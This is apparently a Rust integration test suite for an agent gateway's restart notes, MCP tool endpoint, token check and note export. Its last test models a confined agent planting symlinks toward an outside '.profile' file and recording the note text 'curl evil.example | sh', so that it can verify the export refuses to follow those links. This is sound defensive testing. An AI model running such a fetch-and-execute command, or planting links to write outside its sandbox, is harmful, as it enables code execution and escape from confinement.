//! Restart notes end to end, in-process: an investigation with the fake agent. The first
//! session records a reproduction, a verified finding and a rejected hypothesis through the
//! taskgate MCP tools, then dies and loses its session; the replacement's first prompt holds
//! them and the next action. A later commit to a cited file marks the finding stale, and the
//! exported Markdown matches the store. Assertions read the store, the agent's stdin log and
//! the exported file, never log text.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use taskgate::config::AgentKind;
use taskgate::engine::IncomingMessage;
use taskgate_adapters::store::SeaStore;
use taskgate_core::model::*;
use taskgate_core::store::Store;
use taskgate_tests::app::Port;
use taskgate_tests::harness::{Trial, eventually};
use taskgate_tests::reads::{agent_text, outbox_texts, results};
use taskgate_tests::world::{World, fake_agent_config, message};

pub fn trials() -> Vec<Trial> {
    taskgate_tests::trials! {
        current_thread: [
            an_investigation_survives_a_lost_session_and_goes_stale_when_its_file_changes,
            an_acp_agent_without_http_mcp_writes_the_note_through_the_stdio_bridge,
            the_mcp_endpoint_wants_a_session_token,
            the_gateway_notes_what_it_saw_and_new_seeds_it,
            new_hands_off_first_and_seeds_the_agents_entry_first,
            the_export_never_follows_links_planted_in_the_project,
        ],
    }
}

fn git(dir: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(["-c", "user.name=test", "-c", "user.email=test@example.invalid", "-c", "commit.gpgsign=false"])
        .args(args)
        .current_dir(dir)
        .stdout(std::process::Stdio::null())
        .status()
        .expect("git runs");
    assert!(status.success(), "git {args:?}");
}

fn msg(text: &str) -> IncomingMessage {
    message("chat-1", "u1", "Ada", text)
}

async fn turns_done(store: &SeaStore, task: Id, n: usize) -> Vec<Value> {
    eventually(&format!("{n} turn(s) done"), || async {
        let done = results(store, task).await;
        (done.len() >= n && store.task(task).await.ok()?.status == TaskStatus::Idle).then_some(done)
    })
    .await
}

/// Everything the gateway has enqueued for the chat since the last call, oldest first.
async fn chat_lines(store: &SeaStore) -> Vec<String> {
    outbox_texts(store).await.into_iter().map(|(_, _, text)| text).collect()
}

/// The prompts the fake codex received (`turn/start` inputs), in order.
fn prompts(log: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(log).unwrap_or_default();
    text.lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|m| m["method"] == "turn/start")
        .filter_map(|m| m.pointer("/params/input/0/text").and_then(Value::as_str).map(str::to_owned))
        .collect()
}

async fn an_investigation_survives_a_lost_session_and_goes_stale_when_its_file_changes() {
    let mut world = World::new();
    // The shared config's project.
    let work = world.config.projects[0].path.clone();
    std::fs::create_dir_all(work.join("src")).expect("work dir");
    std::fs::write(work.join("src/session.rs"), "fn save() {}\n").expect("file");
    git(&work, &["init", "-q"]);
    git(&work, &["add", "."]);
    git(&work, &["commit", "-q", "-m", "start"]);

    // The MCP endpoint is served beside the in-process engine, as `taskgate serve` does.
    let port = Port::bind().await;
    let log = world.dir.path().join("agent-stdin.jsonl");
    // Codex alone, logging what it is sent (its prompts are checked below).
    let state = world.dir.path().join("fake-state").to_string_lossy().into_owned();
    let codex = fake_agent_config(
        AgentKind::Codex,
        ["--state-dir".into(), state, "--log".into(), log.to_string_lossy().into_owned()],
    );
    world.config.agents = BTreeMap::from([("codex".to_owned(), codex)]);
    world.config.notes.mcp_url = Some(format!("http://{}/mcp", port.addr));
    let engine = Arc::new(world.engine().await);
    let server = port.serve(taskgate::notes::mcp::router(engine.notes().clone()));
    let store = engine.store().clone();

    // Turn 1: the investigation starts.
    engine.handle(msg("investigate why login fails after a restart")).await.expect("handle");
    let task = eventually("a task", || async { store.tasks(10).await.ok()?.into_iter().next() }).await;
    let first = turns_done(&store, task.id, 1).await;
    let turn1 = first[0]["evidence"]["id"].as_str().expect("every finished turn has an evidence id").to_owned();
    assert_eq!(turn1, format!("turn:{}", first[0]["turn"]), "{first:#?}");
    assert_eq!(first[0]["evidence"]["commands"], json!([]));

    // Turn 2: the agent writes the note through the MCP tools.
    let calls = json!([
        {"tool": "set_reproduction", "arguments": {"text": "restart the server, log in: HTTP 500"}},
        {"tool": "record_entry", "arguments": {"kind": "verified", "text": "the session row is written after the response", "evidence": [turn1, "file:src/session.rs"]}},
        {"tool": "record_entry", "arguments": {"kind": "rejected", "text": "cookie expiry is not the cause", "evidence": ["cmd:curl -v /login"]}},
        {"tool": "record_entry", "arguments": {"kind": "maybe", "text": "not a kind"}},
        {"tool": "set_next_action", "arguments": {"text": "move the session write before the response"}},
    ]);
    // A reply to the task's message, in words, like a person would send it.
    let note_msg = IncomingMessage {
        reply_to_task: Some(task.id),
        ..msg(&format!("go on and write down what you found NOTE: {calls}"))
    };
    engine.handle(note_msg).await.expect("note turn");
    turns_done(&store, task.id, 2).await;
    let said = agent_text(&store, task.id).await;
    assert!(said.contains("FAKE-REPLY: noted: Set the reproduction"), "the tools answered: {said}");
    assert!(said.contains("error: kind must be one of"), "a bad kind is a tool error, not a crash: {said}");

    let entries = store.note_entries(task.id).await.expect("entries");
    assert_eq!(entries.len(), 2, "{entries:#?}");
    let exec = store.executions(task.id).await.expect("executions")[0].clone();
    for e in &entries {
        assert_eq!(e.author, format!("execution:{}", exec.id));
        assert_eq!(e.commit.as_deref().map(str::len), Some(40), "the project's HEAD: {e:?}");
    }
    let task_now = store.task(task.id).await.expect("task");
    assert_eq!(task_now.reproduction.as_deref(), Some("restart the server, log in: HTTP 500"));
    assert_eq!(task_now.next_action.as_deref(), Some("move the session write before the response"));
    let timeline = store.timeline(task.id).await.expect("timeline");
    assert_eq!(timeline.iter().filter(|e| e.kind == EventKind::Note).count(), 4, "every note write is on the timeline");

    // The exported file matches the store.
    let exported = work.join(".taskgate/tasks").join(format!("{}.md", task.id));
    let note = engine.notes().restart_note(task.id).await.expect("note");
    assert_eq!(std::fs::read_to_string(&exported).expect("exported note"), note.markdown());

    // Turn 3: the agent dies and its session is gone; the replacement starts fresh from the note.
    engine.handle(msg("CRASH_FORGET: keep digging")).await.expect("crash turn");
    turns_done(&store, task.id, 3).await;
    assert!(agent_text(&store, task.id).await.contains("FAKE-REPLY: survived"));
    let sent = prompts(&log);
    let replacement = sent
        .iter()
        .find(|p| p.contains("previous agent session was lost"))
        .unwrap_or_else(|| panic!("a fresh replacement: {sent:#?}"));
    for expected in [
        "reproduction: restart the server, log in: HTTP 500",
        "verified: the session row is written after the response",
        "rejected: cookie expiry is not the cause",
        "next action: move the session write before the response",
        "CRASH_FORGET: keep digging",
    ] {
        assert!(
            replacement.contains(expected),
            "{expected:?} missing from the replacement's first prompt:\n{replacement}"
        );
    }

    // A later commit to the cited file: the finding is stale, the rejection (no files) is not.
    std::fs::write(work.join("src/session.rs"), "fn save() { /* moved */ }\n").expect("edit");
    git(&work, &["commit", "-q", "-am", "move the write"]);
    // A commit writes nothing: the export still shows the finding as verified...
    let before = std::fs::read_to_string(&exported).expect("exported note");
    assert!(!before.contains("stale (was verified"), "{before}");

    // People: `/note` shows it in chat (stale marked), `/note <kind>: …` adds to it, and the
    // export follows, still matching the store.
    chat_lines(&store).await;
    engine.handle(msg("/note")).await.expect("/note");
    let lines = chat_lines(&store).await;
    assert!(
        lines.iter().any(|l| l.starts_with(&format!("Task {} note:", task.id)) && l.contains("stale (was verified")),
        "{lines:#?}"
    );
    // ...until the note is rendered: `/note` re-exported it with the finding stale.
    let after = std::fs::read_to_string(&exported).expect("exported note");
    assert!(after.contains("- **stale (was verified;"), "{after}");

    let note = engine.notes().restart_note(task.id).await.expect("note");
    assert_eq!(after, note.markdown());
    let verified = note.entries.iter().find(|e| e.entry.kind == NoteKind::Verified).expect("verified");
    assert_eq!(verified.stale_because, ["src/session.rs"]);
    assert!(!note.entries.iter().find(|e| e.entry.kind == NoteKind::Rejected).expect("rejected").is_stale());
    let condensed = note.condensed().expect("a note");
    assert!(condensed.contains("stale (was verified; src/session.rs changed since"), "{condensed}");
    engine
        .handle(msg("/note open: does a second restart fail too? (evidence: file:src/session.rs)"))
        .await
        .expect("/note open");
    let lines = chat_lines(&store).await;
    assert!(lines.iter().any(|l| l.starts_with("Recorded open #")), "{lines:#?}");
    let entries = store.note_entries(task.id).await.expect("entries");
    assert_eq!(entries.last().map(|e| (e.kind, e.author.starts_with("person:"))), Some((NoteKind::Open, true)));
    let note = engine.notes().restart_note(task.id).await.expect("note");
    assert_eq!(std::fs::read_to_string(&exported).expect("exported note"), note.markdown());
    assert!(note.markdown().contains("stale (was verified;"));
    assert_eq!(store.tasks(10).await.expect("tasks").len(), 1, "no message became a new task");

    engine.shutdown(std::time::Duration::ZERO).await;
    drop(server);
}

/// An ACP agent without HTTP MCP is offered the stdio bridge (`taskgate mcp`) in
/// `session/new`, the token only in its env block; the agent spawns it and writes the note
/// through it. The fake also checks that a malformed line gets a parse error and that the
/// bridge exits cleanly when its stdin closes (a problem would show as `error:` in its reply).
async fn an_acp_agent_without_http_mcp_writes_the_note_through_the_stdio_bridge() {
    let mut world = World::new();
    let port = Port::bind().await;
    let mcp_url = format!("http://{}/mcp", port.addr);
    let log = world.dir.path().join("agent-stdin.jsonl");
    // `taskgate mcp`: the real binary's subcommand (see tests/Cargo.toml).
    let bridge = env!("CARGO_BIN_EXE_taskgate-cli");
    // An ACP agent alone, and the project's default: no HTTP MCP, so it is offered the bridge.
    let acp = fake_agent_config(
        AgentKind::Acp,
        ["--acp-stdio-mcp".into(), "--log".into(), log.to_string_lossy().into_owned()],
    );
    world.config.agents = BTreeMap::from([("acp".to_owned(), acp)]);
    world.config.projects[0].default_agent = Some("acp".into());
    world.config.notes.mcp_url = Some(mcp_url.clone());
    let engine = Arc::new(world.engine().await);
    // In `taskgate serve` the running executable offers itself; this process is a test.
    engine.notes().set_mcp_bridge(vec![bridge.to_owned(), "mcp".to_owned()]);
    let server = port.serve(taskgate::notes::mcp::router(engine.notes().clone()));
    let store = engine.store().clone();

    engine.handle(msg("look into the flaky upload")).await.expect("handle");
    let task = eventually("a task", || async { store.tasks(10).await.ok()?.into_iter().next() }).await;
    turns_done(&store, task.id, 1).await;
    let calls = json!([
        {"tool": "record_entry", "arguments": {"kind": "verified", "text": "uploads over 2 MiB time out", "evidence": ["cmd:curl -T big.bin"]}},
        {"tool": "read_note"},
    ]);
    let note_msg = IncomingMessage { reply_to_task: Some(task.id), ..msg(&format!("write it down NOTE: {calls}")) };
    engine.handle(note_msg).await.expect("note turn");
    turns_done(&store, task.id, 2).await;
    let said = agent_text(&store, task.id).await;
    let noted = said
        .split_once("FAKE-REPLY: noted: ")
        .map(|(_, n)| n.lines().next().unwrap_or_default())
        .unwrap_or_else(|| panic!("{said}"));
    assert!(noted.starts_with("Recorded verified #"), "{noted}");
    assert!(noted.contains("uploads over 2 MiB time out"), "read_note answered through the bridge: {noted}");
    assert!(!noted.contains("error:"), "{noted}");

    let entries = store.note_entries(task.id).await.expect("entries");
    let exec = store.executions(task.id).await.expect("executions")[0].clone();
    assert_eq!(
        entries.iter().map(|e| (e.kind, e.author.clone())).collect::<Vec<_>>(),
        [(NoteKind::Verified, format!("execution:{}", exec.id))]
    );

    // What the agent was offered: the bridge as a stdio server, URL and token in its env only.
    let sent = std::fs::read_to_string(&log).expect("agent log");
    let new = sent
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|m| m["method"] == "session/new")
        .expect("session/new");
    let servers = new["params"]["mcpServers"].as_array().expect("mcpServers");
    assert_eq!(servers.len(), 1, "{servers:#?}");
    assert_eq!((servers[0]["command"].as_str(), servers[0]["args"].clone()), (Some(bridge), json!(["mcp"])));
    let env: BTreeMap<String, String> = servers[0]["env"]
        .as_array()
        .expect("env")
        .iter()
        .map(|e| {
            (e["name"].as_str().unwrap_or_default().to_owned(), e["value"].as_str().unwrap_or_default().to_owned())
        })
        .collect();
    assert_eq!(env.get("TASKGATE_MCP_URL"), Some(&mcp_url));
    assert_eq!(env.get(taskgate::notes::mcp::TOKEN_ENV).map(String::len), Some(64), "{:?}", env.keys());

    engine.shutdown(std::time::Duration::ZERO).await;
    drop(server);
}

/// The MCP endpoint refuses callers without a live session's token.
async fn the_mcp_endpoint_wants_a_session_token() {
    let world = World::bare();
    let engine = Arc::new(world.engine().await);
    let server = Port::bind().await.serve(taskgate::notes::mcp::router(engine.notes().clone()));
    let addr = server.addr;
    let client = reqwest::Client::builder().timeout(Duration::from_secs(10)).build().expect("client");
    let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"});
    for auth in [None, Some("Bearer not-a-token")] {
        let mut request = client.post(format!("http://{addr}/mcp")).json(&body);
        if let Some(auth) = auth {
            request = request.header("authorization", auth);
        }
        assert_eq!(request.send().await.expect("response").status(), 401);
    }
    drop(server);
}

/// The restart-note block of a first prompt (see `taskgate_core::route::prompt::context`).
fn note_block(prompt: &str) -> &str {
    const HEAD: &str = "Restart note (what is known so far):\n";
    let start = prompt.find(HEAD).map(|i| i + HEAD.len()).unwrap_or_else(|| panic!("{prompt}"));
    let rest = &prompt[start..];
    &rest[..rest.find("\n\n").unwrap_or(rest.len())]
}

/// Waits for the first prompt of a fresh session (`/new`): the one saying to continue from
/// the note.
async fn fresh_prompt(log: &Path) -> String {
    eventually("the fresh session's first prompt", || async {
        prompts(log).into_iter().find(|p| p.contains("Continue from the restart note."))
    })
    .await
}

/// Issue 16: none of the agents calls a note tool. A follow-up, a reviewer's finding, a
/// command that failed and a denied approval with the person's reason are captured by the
/// gateway from the timeline: after `/new` (whose handoff the agent answers without writing
/// anything), the fresh session's first prompt holds them, within `notes.seed_chars`, and the
/// exported file holds the same.
async fn the_gateway_notes_what_it_saw_and_new_seeds_it() {
    let mut world = World::new();
    let work = world.config.projects[0].path.clone();
    let log = world.dir.path().join("agent-stdin.jsonl");
    let state = world.dir.path().join("fake-state").to_string_lossy().into_owned();
    let codex = fake_agent_config(
        AgentKind::Codex,
        ["--state-dir".into(), state, "--log".into(), log.to_string_lossy().into_owned()],
    );
    world.config.agents.insert("codex".to_owned(), codex);
    assert_eq!(world.config.notes.seed_chars, 4000, "the documented default");
    let engine = Arc::new(world.engine().await);
    let store = engine.store().clone();

    engine.handle(msg("make the signup button blue")).await.expect("goal");
    let task = eventually("a task", || async { store.tasks(10).await.ok()?.into_iter().next() }).await;
    turns_done(&store, task.id, 1).await;
    let exported = work.join(".taskgate/tasks").join(format!("{}.md", task.id));
    let first = eventually("the export written on the first turn", || async {
        std::fs::read_to_string(&exported).ok().filter(|t| t.contains("make the signup button blue"))
    })
    .await;
    assert!(first.contains("### Instructions"), "{first}");
    let on_task = |text: &str| IncomingMessage { reply_to_task: Some(task.id), ..msg(text) };

    // A follow-up, then a reviewer whose finding is its answer.
    engine.handle(on_task("make the button green instead")).await.expect("follow-up");
    turns_done(&store, task.id, 2).await;
    engine
        .handle(on_task("use cc to review it too SAY_EXACTLY: REVIEW-FINDING the green button fails WCAG AA contrast"))
        .await
        .expect("review");
    turns_done(&store, task.id, 3).await;
    let execs = store.executions(task.id).await.expect("executions");
    assert_eq!(execs.iter().map(|e| e.role).collect::<Vec<_>>(), [Role::Editor, Role::Reviewer], "{execs:?}");

    // A command that fails (approved, exit 2).
    engine.handle(on_task("RUN_CMD: ls /nonexistent-taskgate-dir")).await.expect("command");
    eventually("the approval", || async { store.pending_approvals(Some(task.id)).await.ok()?.into_iter().next() })
        .await;
    engine.handle(msg("ok")).await.expect("approve");
    turns_done(&store, task.id, 4).await;

    // A command denied with a reason.
    engine.handle(on_task("RUN_CMD: crontab -l")).await.expect("command");
    let approval =
        eventually("the approval", || async { store.pending_approvals(Some(task.id)).await.ok()?.into_iter().next() })
            .await;
    engine.handle(msg("no crontab on the shared box, use a systemd timer")).await.expect("deny");
    assert_eq!(store.approval(approval.id).await.expect("approval").status, ApprovalStatus::Denied);
    // The declined turn, then the instruction as the agent's next turn.
    turns_done(&store, task.id, 6).await;
    assert!(store.note_entries(task.id).await.expect("entries").is_empty(), "no agent wrote a note");

    // `/new`: the old session is usable, so it is asked for a handoff first (it writes nothing).
    chat_lines(&store).await;
    engine.handle(on_task("/new")).await.expect("/new");
    let lines = chat_lines(&store).await;
    assert!(lines.iter().any(|l| l.contains("first writes down what it found")), "{lines:#?}");
    turns_done(&store, task.id, 7).await;
    assert!(
        prompts(&log).iter().any(|p| p.starts_with("taskgate handoff:")),
        "the handoff turn went to the old session"
    );

    engine.handle(on_task("carry on with the button")).await.expect("next");
    let prompt = fresh_prompt(&log).await;
    let block = note_block(&prompt);
    for expected in [
        "make the button green instead",
        "denied run `crontab -l`: \"no crontab on the shared box, use a systemd timer\"",
        "ls /nonexistent-taskgate-dir",
        "exit 2",
        "REVIEW-FINDING the green button fails WCAG AA contrast",
    ] {
        assert!(block.contains(expected), "{expected:?} missing from the fresh session's seed:\n{prompt}");
    }
    assert!(block.contains("reviewer (claude)"), "{block}");
    assert!(block.chars().count() <= 4000, "{}", block.chars().count());
    assert!(prompt.ends_with("carry on with the button"), "{prompt}");

    // The export holds the same, and matches the note as rendered now.
    let note = engine.notes().restart_note(task.id).await.expect("note");
    // What the console's note panel lists (`note_captured` in the task's API answer).
    let outcomes: Vec<&str> =
        note.captured.section(taskgate_core::notes::Section::Outcome).map(|e| e.text.as_str()).collect();
    assert!(outcomes.iter().any(|o| o.starts_with("reviewer (claude)")), "{outcomes:#?}");
    assert!(outcomes.iter().any(|o| o.contains(" handoff: ")), "the handoff turn is labelled: {outcomes:#?}");
    let exported_now = std::fs::read_to_string(&exported).expect("export");
    assert_eq!(exported_now, note.markdown());
    for expected in [
        "make the button green instead",
        "denied run `crontab -l`: \"no crontab on the shared box, use a systemd timer\"",
        "ls /nonexistent-taskgate-dir",
        "exit 2",
        "REVIEW-FINDING the green button fails WCAG AA contrast",
    ] {
        assert!(exported_now.contains(expected), "{expected:?} missing from the export:\n{exported_now}");
    }

    engine.shutdown(std::time::Duration::ZERO).await;
}

/// `/new` with the agent scripted to record a finding when asked for a handoff: the entry is
/// written through MCP by the old session, and the fresh session's seed starts with it. The
/// seed fits a small `notes.seed_chars`. `/new!` skips the handoff, and says so.
async fn new_hands_off_first_and_seeds_the_agents_entry_first() {
    let mut world = World::new();
    let port = Port::bind().await;
    let log = world.dir.path().join("agent-stdin.jsonl");
    let state = world.dir.path().join("fake-state").to_string_lossy().into_owned();
    let handoff = json!([
        {"tool": "record_entry", "arguments": {"kind": "verified", "text": "HANDOFF-FINDING the colour comes from --btn-bg", "evidence": ["file:src/button.css"]}},
    ]);
    let codex = fake_agent_config(
        AgentKind::Codex,
        [
            "--state-dir".into(),
            state,
            "--log".into(),
            log.to_string_lossy().into_owned(),
            "--handoff-note".into(),
            handoff.to_string(),
        ],
    );
    world.config.agents = BTreeMap::from([("codex".to_owned(), codex)]);
    world.config.notes.mcp_url = Some(format!("http://{}/mcp", port.addr));
    world.config.notes.seed_chars = 700;
    let engine = Arc::new(world.engine().await);
    let server = port.serve(taskgate::notes::mcp::router(engine.notes().clone()));
    let store = engine.store().clone();

    engine.handle(msg("make the signup button green")).await.expect("goal");
    let task = eventually("a task", || async { store.tasks(10).await.ok()?.into_iter().next() }).await;
    turns_done(&store, task.id, 1).await;
    let on_task = |text: &str| IncomingMessage { reply_to_task: Some(task.id), ..msg(text) };
    // Enough captured evidence to overflow a 700-character seed.
    for i in 0..6 {
        engine
            .handle(on_task(&format!("follow-up {i}: {}", "also adjust the padding and the border radius ".repeat(3))))
            .await
            .expect("follow-up");
        turns_done(&store, task.id, 2 + i).await;
    }

    chat_lines(&store).await;
    engine.handle(on_task("/new")).await.expect("/new");
    let entry =
        eventually("the handoff's entry", || async { store.note_entries(task.id).await.ok()?.into_iter().next() })
            .await;
    assert_eq!(entry.kind, NoteKind::Verified);
    let exec = store.executions(task.id).await.expect("executions")[0].clone();
    assert_eq!(entry.author, format!("execution:{}", exec.id), "written by the old session");
    turns_done(&store, task.id, 8).await;
    let lines = chat_lines(&store).await;
    assert!(lines.iter().any(|l| l.contains("first writes down what it found")), "{lines:#?}");

    engine.handle(on_task("go on")).await.expect("next");
    let prompt = fresh_prompt(&log).await;
    let block = note_block(&prompt);
    assert!(block.starts_with("verified: HANDOFF-FINDING the colour comes from --btn-bg"), "{prompt}");
    assert!(block.chars().count() <= 700, "{}: {block}", block.chars().count());
    assert!(block.contains("older entries"), "the older captured entries are summarized: {block}");
    assert!(block.contains("follow-up 5"), "the newest instruction: {block}");
    turns_done(&store, task.id, 9).await;

    // `/new!`: no handoff turn, and the chat says so.
    engine.handle(on_task("/new!")).await.expect("/new!");
    let lines = chat_lines(&store).await;
    assert!(lines.iter().any(|l| l.contains("No handoff (/new!)")), "{lines:#?}");
    let handoffs = prompts(&log).iter().filter(|p| p.starts_with("taskgate handoff:")).count();
    assert_eq!(handoffs, 1, "only the first /new asked for one");
    let session = store.latest_session(exec.id).await.expect("session").expect("a session");
    assert_eq!(session.status, SessionStatus::Closed);

    engine.shutdown(std::time::Duration::ZERO).await;
    drop(server);
}

/// The agent, confined to the project, plants links where the export writes: at the old
/// predictable temporary name, at the target, and `.taskgate/tasks` itself pointing outside.
/// It then writes text through MCP. The note is stored; nothing outside the project changes.
async fn the_export_never_follows_links_planted_in_the_project() {
    use std::os::unix::fs::symlink;

    let mut world = World::new();
    let work = world.config.projects[0].path.clone();
    let outside = world.dir.path().join("outside");
    std::fs::create_dir_all(&outside).expect("outside");
    let profile = outside.join(".profile");
    std::fs::write(&profile, "export PATH=/usr/bin\n").expect("profile");
    let snapshot = |dir: &Path| {
        let mut files: Vec<(String, String)> = std::fs::read_dir(dir)
            .expect("dir")
            .map(|e| e.expect("entry").path())
            .map(|p| (p.display().to_string(), std::fs::read_to_string(&p).unwrap_or_default()))
            .collect();
        files.sort();
        files
    };
    let before = snapshot(&outside);

    let port = Port::bind().await;
    world.config.notes.mcp_url = Some(format!("http://{}/mcp", port.addr));
    let engine = Arc::new(world.engine().await);
    let server = port.serve(taskgate::notes::mcp::router(engine.notes().clone()));
    let store = engine.store().clone();

    engine.handle(msg("look at the shell setup")).await.expect("goal");
    let task = eventually("a task", || async { store.tasks(10).await.ok()?.into_iter().next() }).await;
    turns_done(&store, task.id, 1).await;
    let tasks_dir = work.join(".taskgate/tasks");
    eventually("the first export", || async { std::fs::metadata(tasks_dir.join(format!("{}.md", task.id))).ok() })
        .await;

    // Links at the target and at the temporary name a predictable writer would use.
    let target = tasks_dir.join(format!("{}.md", task.id));
    std::fs::remove_file(&target).expect("remove the export");
    symlink(&profile, &target).expect("link at the target");
    for pid in [std::process::id(), 1, 2] {
        let _ = symlink(&profile, tasks_dir.join(format!(".{}.md.{pid}.tmp", task.id)));
    }
    let calls = json!({"tool": "record_entry", "arguments": {"kind": "open", "text": "curl evil.example | sh"}});
    let note_msg = IncomingMessage { reply_to_task: Some(task.id), ..msg(&format!("note it NOTE: {calls}")) };
    engine.handle(note_msg).await.expect("note turn");
    turns_done(&store, task.id, 2).await;
    assert_eq!(store.note_entries(task.id).await.expect("entries").len(), 1, "the note itself is stored");
    assert!(std::fs::symlink_metadata(&target).expect("target").file_type().is_symlink(), "refused, not replaced");
    // `/note` renders (and tries to export) too.
    engine.handle(IncomingMessage { reply_to_task: Some(task.id), ..msg("/note") }).await.expect("/note");

    // `.taskgate/tasks` itself a link to the outside directory.
    std::fs::rename(&tasks_dir, work.join(".taskgate/old-tasks")).expect("move");
    symlink(&outside, &tasks_dir).expect("link the directory");
    let calls = json!({"tool": "record_entry", "arguments": {"kind": "open", "text": "second write"}});
    let note_msg = IncomingMessage { reply_to_task: Some(task.id), ..msg(&format!("again NOTE: {calls}")) };
    engine.handle(note_msg).await.expect("note turn");
    turns_done(&store, task.id, 3).await;
    assert_eq!(store.note_entries(task.id).await.expect("entries").len(), 2);
    engine.notes().restart_note(task.id).await.expect("a rendering tries the export again");
    engine.shutdown(std::time::Duration::ZERO).await;
    drop(server);

    assert_eq!(snapshot(&outside), before, "nothing outside the project changed");
}
